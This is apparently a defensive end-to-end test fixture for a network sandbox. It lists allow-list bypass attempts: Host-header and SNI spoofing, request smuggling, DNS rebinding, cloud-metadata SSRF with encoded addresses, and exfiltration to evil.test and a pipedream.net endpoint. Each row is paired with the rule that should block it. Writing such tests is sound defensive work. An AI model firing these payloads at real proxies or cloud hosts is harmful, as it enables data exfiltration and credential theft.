"""Attempts to reach somebody else by way of an allowed host, a row for each: tests/e2e/test_fronting.py.

Allowed are *.files.test on ports 80 and 443, *.pipedream.net, which the deny list has, and opaque.files.test on 4444.  Each row has a host of its own (`NAME.files.test`) at an address of its own, so
that whatever is seen outside and in the record is some row's.  In its bytes @HOST@ is that host, @ADDR@ its address; evil.test is the other one.

`honest` is what it looks like without the attack: it has to arrive."""
from __future__ import annotations

import struct
from dataclasses import dataclass, field

OTHER = "evil.test"
NAME, PORT, OUTSIDE, RESOLVE, PRIVATE, METADATA = ("net.connect.name", "net.connect.port", "net.outside", "net.resolve", "net.resolve.private",
                                                  "net.metadata.cloud")
SECRET = "STOLEN"  # in the part of each row that must not arrive


@dataclass(frozen=True)
class Attack:
    name: str
    rule: str
    send: tuple[bytes, ...] = ()  # with a pause between them
    why: str = ""  # a part of the record's hint
    seen: str | None = None  # the name that the record says was seen
    port: int = 80
    to: str = ""  # another destination than the row's host: a name, or an address in some spelling
    answers: tuple[tuple[str, ...], ...] = ()  # the host's addresses, and after the next question; else one of its own
    alias: str = ""  # the host is another name of this one (CNAME)
    times: int = 1  # how often it is looked up and connected to
    udp: bool = False
    before: bytes = b""  # good bytes that come first, and may arrive
    honest: tuple[bytes, ...] | None = None
    plain: str = ""  # the rule where there is no network namespace, if it is another
    address: str = field(default="", compare=False)

    @property
    def host(self) -> str:
        return f"{self.name}.files.test"


# --- HTTP ---------------------------------------------------------------------------------------

GET = b"GET /x HTTP/1.1\r\nHost: @HOST@\r\n\r\n"
BODY = b"POST /x HTTP/1.1\r\nHost: @HOST@\r\nContent-Length: 2\r\n\r\nok"


def head(*lines: str, start: str = "GET /STOLEN HTTP/1.1", body: str = "") -> tuple[bytes, ...]:
    return ("\r\n".join([start, *lines, "", body]).encode("latin-1"),)


def http(name: str, why: str, *lines: str, seen: str | None = None, honest=(GET,), **more) -> Attack:
    return Attack(name, NAME, head(*lines, **{k: more.pop(k) for k in ("start", "body") if k in more}), why, seen, honest=honest, **more)


ANOTHER = "another server's name"
CHUNKED = "Transfer-Encoding: chunked"
POST = "POST /STOLEN HTTP/1.1"
OWN = "Host: @HOST@"
CHUNKS = (b"POST /x HTTP/1.1\r\nHost: @HOST@\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n",)

HTTP = [
    http("host-other", ANOTHER, f"Host: {OTHER}", seen=OTHER),
    http("host-case", ANOTHER, "Host: EVIL.Test", seen=OTHER, honest=(GET.replace(b"@HOST@", b"@UPPER@"),)),
    http("host-dot", ANOTHER, f"Host: {OTHER}.", seen=OTHER, honest=(GET.replace(b"@HOST@", b"@HOST@."),)),
    http("host-two-dots", "no host name", "Host: @HOST@.."),
    http("host-below", ANOTHER, "Host: x.@HOST@"),
    http("host-above", ANOTHER, "Host: files.test", seen="files.test"),
    http("host-sibling", ANOTHER, "Host: sni-other.files.test", seen="sni-other.files.test"),
    http("host-suffix", ANOTHER, "Host: @HOST@.evil.test"),
    http("host-port-other", "another port", "Host: @HOST@:8080", honest=(GET.replace(b"@HOST@", b"@HOST@:80"),)),
    http("host-port-odd", "", "Host: @HOST@:80@evil.test"),
    http("host-userinfo", "no host name", "Host: @HOST@@evil.test"),
    http("host-userinfo-turned", "no host name", f"Host: {OTHER}@@HOST@"),
    http("host-nul", "control character", f"Host: @HOST@\0.{OTHER}"),
    http("host-tab", "no host name", f"Host: @HOST@\t{OTHER}"),
    http("host-comma", "no host name", f"Host: @HOST@,{OTHER}"),
    http("host-list", "no host name", f"Host: @HOST@, {OTHER}"),
    http("host-slash", "no host name", f"Host: @HOST@/{OTHER}"),
    http("host-percent", "no host name", "Host: %65vil.test"),
    http("host-utf8", "no host name", "Host: \u00e9vil.test"),
    http("host-fullwidth", "no host name", "Host: \xef\xbd\x85vil.test"),
    http("host-punycode", ANOTHER, "Host: xn--vil-9la.test", seen="xn--vil-9la.test"),
    http("host-empty", "no host name", "Host:"),
    http("host-missing", "Host, or none", "Accept: */*"),
    http("host-missing-1.0", "Host, or none", start="GET /STOLEN HTTP/1.0", honest=(b"GET /x HTTP/1.0\r\nHost: @HOST@\r\n\r\n",)),
    http("host-address", "an address", "Host: @ADDR@"),
    http("host-address-other", "an address", "Host: 203.0.113.250"),
    http("host-address-decimal", "", "Host: 3405803786"),
    http("host-address-hex", "", "Host: 0xcb00710a"),
    http("host-address-6", "an address", "Host: [2001:db8::7]"),
    http("two-hosts", "more than one Host", OWN, f"Host: {OTHER}"),
    http("two-hosts-turned", "", f"Host: {OTHER}", OWN),
    http("two-hosts-same", "more than one Host", OWN, OWN),
    http("host-folded", "no host name", "Host:", f" {OTHER}"),
    http("obs-fold", "folded", OWN, f"\t{OTHER}"),
    http("fold-first", "", " X: 1", OWN),
    http("space-before-colon", "malformed", f"Host : {OTHER}", OWN),
    http("space-before-name", "", OWN, f" Host: {OTHER}"),
    http("bare-lf", "line end", f"Host: @HOST@\nHost: {OTHER}"),
    http("bare-cr", "line end", f"Host: @HOST@\rHost: {OTHER}"),
    http("absolute-other", "target for another host", OWN, start=f"GET http://{OTHER}/STOLEN HTTP/1.1", honest=(b"GET http://@HOST@/x HTTP/1.1\r\nHost: @HOST@\r\n\r\n",)),
    http("absolute-own-host-other", "target for another host", f"Host: {OTHER}", start="GET http://@HOST@/STOLEN HTTP/1.1"),
    http("absolute-both-other", ANOTHER, f"Host: {OTHER}", start=f"GET http://{OTHER}/STOLEN HTTP/1.1", seen=OTHER),
    http("absolute-userinfo", "no host name", OWN, start=f"GET http://@HOST@@{OTHER}/STOLEN HTTP/1.1"),
    http("absolute-backslash", "", OWN, start=f"GET http://{OTHER}\\@@HOST@/STOLEN HTTP/1.1"),
    http("absolute-https", "", f"Host: {OTHER}", start=f"GET https://{OTHER}/STOLEN HTTP/1.1"),
    http("target-double-slash-space", "", OWN, start=f"GET //{OTHER}/ STOLEN HTTP/1.1"),
    http("authority-target", "", OWN, start=f"GET {OTHER}:80 HTTP/1.1"),
    http("connect-other", "", f"Host: {OTHER}:443", start=f"CONNECT {OTHER}:443 HTTP/1.1"),
    http("connect-own", "tunnel", "Host: @HOST@:80", start="CONNECT @HOST@:80 HTTP/1.1"),
    http("connect-host-own", "", OWN, start=f"CONNECT {OTHER}:443 HTTP/1.1"),
    http("h2c-upgrade", "another protocol", OWN, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"),
    http("upgrade-websocket", "another protocol", OWN, "Connection: Upgrade", "Upgrade: websocket"),
    http("upgrade-tls", "another protocol", OWN, "Connection: Upgrade", "Upgrade: TLS/1.0"),
    http("h2-preface", "", start="PRI * HTTP/2.0", body="SM\r\n\r\nSTOLEN"),
    http("length-and-chunks", "beside", OWN, "Content-Length: 6", CHUNKED, start=POST, body="0\r\n\r\nSTOLEN", honest=CHUNKS),
    http("chunks-and-length", "beside", OWN, CHUNKED, "Content-Length: 6", start=POST, body="0\r\n\r\nSTOLEN", honest=CHUNKS),
    http("two-lengths", "Content-Length", OWN, "Content-Length: 2", "Content-Length: 44", start=POST, body="okGET /STOLEN HTTP/1.1\r\nHost: evil.test\r\n\r\n", honest=(BODY,)),
    http("length-list", "Content-Length", OWN, "Content-Length: 2, 44", start=POST, body="ok", honest=(BODY,)),
    http("length-plus", "Content-Length", OWN, "Content-Length: +2", start=POST, body="ok", honest=(BODY,)),
    http("length-hex", "Content-Length", OWN, "Content-Length: 0x2", start=POST, body="ok", honest=(BODY,)),
    http("length-underscore", "malformed", OWN, "Content_Length: 2", start=POST, body="ok", honest=(BODY,)),
    http("encoding-unknown", "Transfer-Encoding", OWN, "Transfer-Encoding: xchunked", start=POST, body="0\r\n\r\n", honest=CHUNKS),
    http("encoding-twice", "Transfer-Encoding", OWN, CHUNKED, "Transfer-Encoding: identity", start=POST, body="0\r\n\r\n", honest=CHUNKS),
    http("encoding-vt", "", OWN, "Transfer-Encoding:\x0bchunked", start=POST, body="0\r\n\r\n", honest=CHUNKS),
    http("encoding-1.0", "Transfer-Encoding", OWN, CHUNKED, start="POST /STOLEN HTTP/1.0", body="0\r\n\r\n", honest=CHUNKS),
    http("body-of-get", "body of a request", OWN, "Content-Length: 44", body="GET /STOLEN HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    http("connection-names-host", "Connection", OWN, "Connection: close, Host"),
    http("version-odd", "", OWN, start="GET /STOLEN HTTP/1.2"),
    http("version-0.9", "", start="GET /STOLEN"),
    http("method-small", "neither TLS nor HTTP", OWN, start="get /STOLEN HTTP/1.1"),
    http("request-tab", "", OWN, start="GET\t/STOLEN\tHTTP/1.1"),
    Attack("second-request", NAME, (GET + b"GET /STOLEN HTTP/1.1\r\nHost: evil.test\r\n\r\n",), ANOTHER, OTHER, before=GET),
    Attack("second-behind-body", NAME, (BODY + b"GET /STOLEN HTTP/1.1\r\nHost: evil.test\r\n\r\n",), ANOTHER, OTHER, before=BODY),
    Attack("second-later", NAME, (BODY, b"GET /STOLEN HTTP/1.1\r\nHost: evil.test\r\n\r\n"), ANOTHER, OTHER, before=BODY, honest=(BODY,)),
    Attack("second-no-http", NAME, (BODY + b"\x16\x03\x01STOLEN",), "", before=BODY),
]
_CHUNKED = b"POST /x HTTP/1.1\r\nHost: @HOST@\r\nTransfer-Encoding: chunked\r\n\r\n"
HTTP += [
    Attack(name, NAME, (_CHUNKED + rest,), why, seen, before=_CHUNKED + good, honest=CHUNKS) for name, rest, why, seen, good in (
        ("host-in-trailer", b"2\r\nok\r\n0\r\nHost: evil.test\r\nX: STOLEN\r\n\r\n", "trailer", None, b"2\r\nok\r\n0\r\n"),
        ("length-in-trailer", b"2\r\nok\r\n0\r\nContent-Length: 9\r\nX: STOLEN\r\n\r\n", "trailer", None, b"2\r\nok\r\n0\r\n"),
        ("chunk-extension-lf", b"2;a\nSTOLEN\r\nok\r\n0\r\n\r\n", "", None, b""),
        ("chunk-extension-cr", b"2;a\rSTOLEN\r\nok\r\n0\r\n\r\n", "", None, b""),
        ("chunk-size-huge", b"fffffffffffffffe\r\nSTOLEN\r\n0\r\n\r\n", "chunk", None, b""),
        ("chunk-size-sign", b"-2\r\nSTOLEN\r\n0\r\n\r\n", "chunk", None, b""),
        ("chunk-size-hex", b"0x2\r\nSTOLEN\r\n0\r\n\r\n", "chunk", None, b""),
        ("chunk-no-end", b"2\r\nokSTOLEN\r\n0\r\n\r\n", "", None, b"2\r\nok"),
        ("second-behind-chunks", b"2\r\nok\r\n0\r\n\r\nGET /STOLEN HTTP/1.1\r\nHost: evil.test\r\n\r\n", ANOTHER, OTHER, b"2\r\nok\r\n0\r\n\r\n"),
    )
]


# --- TLS ----------------------------------------------------------------------------------------

def extension(kind: int, body: bytes) -> bytes:
    return struct.pack("!HH", kind, len(body)) + body


def names(*hosts: bytes) -> bytes:
    listed = b"".join(b"\0" + struct.pack("!H", len(h)) + h for h in hosts)
    return extension(0, struct.pack("!H", len(listed)) + listed)


ECH = extension(0xFE0D, b"\0\0\1\0\1\7" + struct.pack("!H", 32) + b"E" * 32 + struct.pack("!H", 64) + b"STOLEN" + b"P" * 58)


def body(*extensions: bytes) -> bytes:
    """A ClientHello, as a handshake message: TLS 1.3, x25519."""
    more = b"".join([*extensions, extension(43, b"\2\3\4"), extension(10, b"\0\2\0\x1d"), extension(13, b"\0\2\4\3"), extension(51, struct.pack("!HHH", 36, 0x1D, 32) + b"K" * 32)])
    hello = b"\3\3" + b"STOLEN".ljust(32, b"r") + b"\x20" + b"s" * 32 + struct.pack("!H", 4) + b"\x13\1\xc0\x2f" + b"\1\0" + struct.pack("!H", len(more)) + more
    return b"\1" + len(hello).to_bytes(3, "big") + hello


def record(payload: bytes, kind: int = 22) -> bytes:
    return bytes([kind, 3, 1]) + struct.pack("!H", len(payload)) + payload


def hello(*extensions: bytes) -> bytes:
    return record(body(*extensions))


def own(name: str) -> bytes:
    return f"{name}.files.test".encode()


def tls(name: str, why: str, *send: bytes, seen: str | None = None, honest=None, **more) -> Attack:
    return Attack(name, NAME, send, why, seen, **{"port": 443, **more}, honest=honest or (hello(names(own(name))),))


EVIL = names(OTHER.encode())
_SPLIT, _SPLIT_OWN = body(EVIL), body(names(own("sni-split-records")))
TLS = [
    tls("sni-other", ANOTHER, hello(EVIL), seen=OTHER),
    tls("sni-none", "names no server", hello()),
    tls("sni-case", ANOTHER, hello(names(b"EVIL.test")), seen=OTHER, honest=(hello(names(b"SNI-case.FILES.test")),)),
    tls("sni-empty", "", hello(names(b""))),
    tls("sni-address", "address", hello(names(b"203.0.113.9"))),
    tls("sni-below", ANOTHER, hello(names(b"x." + own("sni-below")))),
    tls("sni-above", ANOTHER, hello(names(b"files.test")), seen="files.test"),
    tls("sni-sibling", ANOTHER, hello(names(b"host-other.files.test")), seen="host-other.files.test"),
    tls("sni-nul", "no host name", hello(names(own("sni-nul") + b"\0.evil.test"))),
    tls("sni-utf8", "no host name", hello(names("\u00e9vil.test".encode()))),
    tls("sni-list", "not exactly one", hello(names(own("sni-list"), OTHER.encode()))),
    tls("sni-list-turned", "not exactly one", hello(names(OTHER.encode(), own("sni-list-turned")))),
    tls("sni-twice", "twice", hello(names(own("sni-twice")), EVIL)),
    tls("ech-outer", "encrypted hello", hello(names(own("ech-outer")), ECH), seen="ech-outer.files.test"),
    tls("ech-other", ANOTHER, hello(EVIL, ECH), seen=OTHER),
    tls("sni-split-records", ANOTHER, b"".join(record(_SPLIT[i:i + 60]) for i in range(0, len(_SPLIT), 60)), seen=OTHER,
        honest=(b"".join(record(_SPLIT_OWN[i:i + 60]) for i in range(0, len(_SPLIT_OWN), 60)),)),
    tls("sni-split-segments", ANOTHER, hello(EVIL)[:9], hello(EVIL)[9:70], hello(EVIL)[70:], seen=OTHER,
        honest=(hello(names(own("sni-split-segments")))[:9], hello(names(own("sni-split-segments")))[9:70], hello(names(own("sni-split-segments")))[70:])),
    tls("hello-behind-hello", "more in the record", record(body(names(own("hello-behind-hello"))) + body(EVIL))),
    tls("second-hello", ANOTHER, hello(names(own("second-hello"))) + hello(EVIL), seen=OTHER, before=hello(names(own("second-hello"))), port=80),
    tls("second-hello-behind-early-data", ANOTHER, hello(names(own("second-hello-behind-early-data"))) + record(b"e" * 40, 23) + hello(EVIL), seen=OTHER, port=80,
        before=hello(names(own("second-hello-behind-early-data"))) + record(b"e" * 40, 23)),
    tls("alert-first", "", record(b"\1\0", 21) + hello(EVIL)),
    tls("early-data-first", "", record(b"STOLEN" * 9, 23)),
    tls("sslv2-hello", "", b"\x80\x2e\1\3\1\0\x15\0\0\0\x10STOLEN"),
    tls("record-version", "no handshake record", b"\x16\x04\x00" + hello(EVIL)[3:]),
    tls("hello-other-port", ANOTHER, hello(EVIL), seen=OTHER, port=80),
    Attack("http-on-443", NAME, head(f"Host: {OTHER}"), ANOTHER, OTHER, port=443, honest=(hello(names(own("http-on-443"))),)),
    Attack("own-protocol", NAME, (b"\0\1\2 STOLEN in a protocol of its own",), "neither TLS nor HTTP"),
    Attack("ssh-on-80", NAME, (b"ssh-2.0-STOLEN\r\n",), "neither TLS nor HTTP"),
]


# --- names --------------------------------------------------------------------------------------

STOLEN_GET = (b"GET /STOLEN HTTP/1.1\r\nHost: @HOST@\r\n\r\n",)


def leads(name: str, address: str, rule: str = PRIVATE) -> Attack:
    return Attack(name, rule, STOLEN_GET, answers=((address,),))


NAMES = [
    leads("to-metadata", "169.254.169.254", METADATA),
    leads("to-metadata-azure", "168.63.129.16", METADATA),
    leads("to-metadata-alibaba", "100.100.100.200", METADATA),
    leads("to-metadata-container", "169.254.170.2", "net.metadata.container"),
    leads("to-metadata-6", "fd00:ec2::254", METADATA),
    leads("to-metadata-mapped", "::ffff:169.254.169.254", METADATA),
    leads("to-metadata-6to4", "2002:a9fe:a9fe::1", METADATA),
    leads("to-metadata-nat64", "64:ff9b::a9fe:a9fe", METADATA),
    leads("to-private-10", "10.203.0.2"),
    leads("to-private-172", "172.31.0.2"),
    leads("to-private-192", "192.168.3.4"),
    leads("to-carrier", "100.64.0.9"),
    leads("to-loopback", "127.0.0.1"),
    leads("to-loopback-other", "127.9.9.9"),
    leads("to-loopback-6", "::1"),
    leads("to-loopback-mapped", "::ffff:127.0.0.1"),
    leads("to-link", "169.254.7.7"),
    leads("to-link-6", "fe80::1"),
    leads("to-local-6", "fd00:203::2"),
    leads("to-private-6to4", "2002:0acb:0002::1"),
    leads("to-private-nat64", "64:ff9b::10.203.0.2"),
    leads("to-nowhere", "0.0.0.0"),
    leads("to-nowhere-6", "::"),
    leads("to-multicast", "224.0.0.251"),
    leads("to-broadcast", "255.255.255.255"),
    leads("to-stand-in", "198.18.0.1"),
    leads("to-this-machine", "198.51.100.9"),
    Attack("mixed", PRIVATE, STOLEN_GET, answers=(("192.168.3.5", "@ADDR@"),), before=STOLEN_GET[0]),
    Attack("rebinding", PRIVATE, STOLEN_GET, answers=(("@ADDR@",), ("10.203.0.2",)), times=2, before=STOLEN_GET[0]),
    Attack("rebinding-to-metadata", METADATA, STOLEN_GET, answers=(("@ADDR@",), ("169.254.169.254",)), times=2, before=STOLEN_GET[0]),
    Attack("alias", "net.exfil.pipedream", STOLEN_GET, alias="eo1.m.pipedream.net"),
    Attack("denied", "net.exfil.pipedream", STOLEN_GET, to="eo2.m.pipedream.net"),
    Attack("unknown", RESOLVE, STOLEN_GET, to="unknown.evil.test"),
    Attack("allowed-in-front", RESOLVE, STOLEN_GET, to="files.test.evil.test"),
    Attack("allowed-behind", RESOLVE, STOLEN_GET, to="evilfiles.test"),
    Attack("name-escaped", RESOLVE, STOLEN_GET, to="evil.test\\.files.test"),
]


# --- addresses ----------------------------------------------------------------------------------

def literal(name: str, port: int, to: str, rule: str = OUTSIDE, **more) -> Attack:
    return Attack(name, rule, STOLEN_GET, to=to, port=port, **more)


ADDRESSES = [
    literal("metadata", 8101, "169.254.169.254", METADATA),
    literal("metadata-decimal", 8102, "2852039166", METADATA),
    literal("metadata-octal", 8103, "0251.0376.0251.0376", METADATA),
    literal("metadata-hex", 8104, "0xa9fea9fe", METADATA),
    literal("metadata-short", 8105, "169.254.43518", METADATA),
    literal("metadata-mixed", 8106, "0xa9.254.0251.254", METADATA),
    literal("metadata-mapped", 8107, "::ffff:169.254.169.254", METADATA),
    literal("metadata-mapped-hex", 8108, "::ffff:a9fe:a9fe", METADATA),
    literal("metadata-6to4", 8109, "2002:a9fe:a9fe::1", METADATA),
    literal("metadata-nat64", 8110, "64:ff9b::a9fe:a9fe", METADATA),
    literal("address-direct", 80, "203.0.113.77"),
    literal("address-direct-mapped", 443, "::ffff:203.0.113.78"),
    literal("stand-in-guessed", 8113, "198.18.40.40"),
    literal("stand-in-guessed-mapped", 8114, "::ffff:198.18.40.41"),
    literal("stand-in-guessed-6", 8115, "fd70:7770::4040"),
    literal("stand-in-network", 8116, "198.18.0.0"),
    Attack("port-other", PORT, STOLEN_GET, port=4444),
    Attack("port-ssh", PORT, (b"SSH-2.0-STOLEN\r\n",), port=22),
    Attack("port-opaque-elsewhere", PORT, (b"STOLEN",), port=8443, to="opaque.files.test"),
    Attack("opaque-not-here", NAME, (b"\0STOLEN",), "neither TLS nor HTTP", to="opaque.files.test"),
    Attack("quic", OUTSIDE, (b"\xc0\0\0\0\1STOLEN" * 20,), port=443, udp=True, plain="net.socket"),
    Attack("udp", OUTSIDE, (b"STOLEN",), port=4444, udp=True, plain="net.socket"),
]

ATTACKS = HTTP + TLS + NAMES + ADDRESSES
